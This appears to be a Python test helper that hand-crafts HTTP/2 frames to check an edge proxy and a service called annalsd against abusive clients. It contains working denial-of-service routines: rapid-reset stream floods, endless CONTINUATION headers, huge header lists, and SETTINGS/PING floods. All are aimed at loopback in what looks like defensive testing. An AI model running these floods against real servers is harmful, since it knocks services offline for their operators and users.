"""HTTP/2 by hand, to send what no library would: the clients that an edge is there for.

A Connection needs nothing but a connected socket, so that the same client can be pointed at annalsd
itself (a UNIX socket, no TLS) to see what it does without an edge.
"""

import contextlib
import select
import socket
import ssl
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
FRAME_BYTES_MAX = 16_384
CANCEL = b"\0\0\0\x08"
# What is sent in one go; enough for many frames, and little enough to notice a closed connection.
CHUNK_BYTES = 65_536
STALLED_S = 1


def frame(kind, flags, stream, payload=b""):
    assert len(payload) <= FRAME_BYTES_MAX
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") +
            payload)


def string(text):
    """A string of HPACK (RFC 7541, 5.2), not Huffman-coded; its length has a prefix of 7 bits."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, length = len(text) - 127, bytearray([127])
    while rest >= 128:
        length.append(rest % 128 + 128)
        rest //= 128
    return bytes([*length, rest]) + text


def field(name, value):
    """A literal field without indexing, with a new name (RFC 7541, 6.2.2)."""
    return b"\0" + string(name) + string(value)


def call_headers(path, *more):
    """The header block that opens a call; `more` are fields."""
    return b"".join([
        field(b":method", b"POST"), field(b":scheme", b"https"), field(b":path", path),
        field(b":authority", b"annals"), field(b"te", b"trailers"),
        field(b"content-type", b"application/grpc"), *more])


def header_frames(stream, block, flags=0):
    """HEADERS, and CONTINUATION where the block needs it."""
    parts = [block[i:i + FRAME_BYTES_MAX] for i in range(0, len(block), FRAME_BYTES_MAX)]
    frames = []
    for number, part in enumerate(parts):
        last = END_HEADERS if number == len(parts) - 1 else 0
        frames.append(frame(HEADERS if number == 0 else CONTINUATION,
                            last | (flags if number == 0 else 0), stream, part))
    return b"".join(frames)


class Connection:
    """A client's connection. It never acknowledges the server's SETTINGS."""

    def __init__(self, connected):
        self.socket = connected
        self.received = b""
        self.frames = []  # (kind, flags, stream) of what came
        self.open = True
        self.socket.setblocking(False)
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def close(self):
        self.open = False
        self.socket.close()

    def send(self, data):
        """Sends all of it; False where the server closed, or took nothing for STALLED_S."""
        view = memoryview(data)
        while view and self.open:
            try:
                view = view[self.socket.send(view[:CHUNK_BYTES]):]
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                if not select.select([], [self.socket], [], STALLED_S)[1]:
                    return False
            except OSError:
                self.open = False
        return self.open

    def receive(self, wait_s=0):
        """Takes what has come, or waits for something to come; False where the server closed."""
        pending = self.socket.pending() if isinstance(self.socket, ssl.SSLSocket) else 0
        if wait_s and not pending:
            select.select([self.socket], [], [], wait_s)
        with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            while self.open:
                try:
                    part = self.socket.recv(CHUNK_BYTES)
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    raise
                except OSError:
                    part = b""
                self.open = part != b""
                self.received += part
        self._parse()
        return self.open

    def _parse(self):
        start = 0
        while len(self.received) - start >= 9:
            length = int.from_bytes(self.received[start:start + 3], "big")
            if len(self.received) - start < 9 + length:
                break
            kind, flags = self.received[start + 3:start + 5]
            stream = int.from_bytes(self.received[start + 5:start + 9], "big")
            self.frames.append((kind, flags, stream))
            start += 9 + length
        self.received = self.received[start:]

    def told_to_go(self):
        return not self.open or any(kind == GOAWAY for kind, _, _ in self.frames)


def rapid_resets(connect, path, count, deadline_s):
    """Opens `count` calls and takes each back at once. Returns (calls opened, connections used)."""
    deadline = time.monotonic() + deadline_s
    block = call_headers(path)
    opened = connections = 0
    while opened < count and time.monotonic() < deadline:
        try:
            connection = Connection(connect())
        except OSError:
            continue
        connections += 1
        stream = 1
        while opened < count and not connection.told_to_go() and time.monotonic() < deadline:
            pairs = b"".join(header_frames(stream + 2 * i, block) +
                             frame(RST_STREAM, 0, stream + 2 * i, CANCEL) for i in range(20))
            if not connection.send(pairs):
                break
            opened += 20
            stream += 40
            connection.receive()
        connection.close()
    return opened, connections


def served_calls(connection, path, count, deadline_s, at_once=20):
    """Makes calls of an empty message, some at once; how many were answered with a message."""
    served, deadline = set(), time.monotonic() + deadline_s
    for first in range(1, 2 * count, 2 * at_once):
        streams = list(range(first, min(first + 2 * at_once, 2 * count), 2))
        connection.send(b"".join(
            header_frames(stream, call_headers(path)) + frame(DATA, END_STREAM, stream, bytes(5))
            for stream in streams))
        while streams and time.monotonic() < deadline and connection.receive(0.1):
            for kind, flags, stream in connection.frames:
                if kind == DATA:
                    served.add(stream)
                ends = kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM)
                if ends and stream in streams:
                    streams.remove(stream)
            connection.frames.clear()
    return len(served)


def flood(connect, frames, bytes_max, deadline_s, connections=8):
    """Sends what `frames()` yields on many connections, and reads nothing.

    Returns how many bytes the server took before it closed or stalled every connection.
    """
    deadline = time.monotonic() + deadline_s
    taken, running = 0, []
    with contextlib.ExitStack() as stack:
        for _ in range(connections):
            with contextlib.suppress(OSError):
                connection = Connection(connect())
                stack.callback(connection.close)
                running.append((connection, frames()))
        while running and taken < bytes_max and time.monotonic() < deadline:
            for connection, source in list(running):
                chunk = next(source)
                if connection.send(chunk):
                    taken += len(chunk)
                else:
                    running.remove((connection, source))
    return taken


def endless_headers(path):
    """One call whose header list never ends."""
    block = call_headers(path)
    yield frame(HEADERS, 0, 1, block)
    more = field(b"x-filler", b"x" * 16_000)
    while True:
        yield frame(CONTINUATION, 0, 1, more) * 4


def large_headers(path, value_bytes, values):
    """Calls with great header lists, one after another."""
    filler = (field(b"x-filler-%d" % i, b"x" * value_bytes) for i in range(values))
    block = call_headers(path, *filler)
    stream = 1
    while True:
        yield header_frames(stream, block, END_STREAM)
        stream += 2


def settings():
    """SETTINGS, which ask for an acknowledgement each; nobody reads it."""
    some = frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")
    while True:
        yield some * (CHUNK_BYTES // len(some))


def pings():
    """The same with PING."""
    some = frame(PING, 0, 0, b"annals!!")
    while True:
        yield some * (CHUNK_BYTES // len(some))


def connect_unix(path):
    connected = socket.socket(socket.AF_UNIX)
    connected.connect(path)
    return connected


def connect_tcp(port, source):
    """From an address of the loopback network, so that several clients can be told apart."""
    return socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))


def over_tls(connected, certificate):
    context = ssl.create_default_context(cafile=certificate)
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connected, server_hostname="localhost")
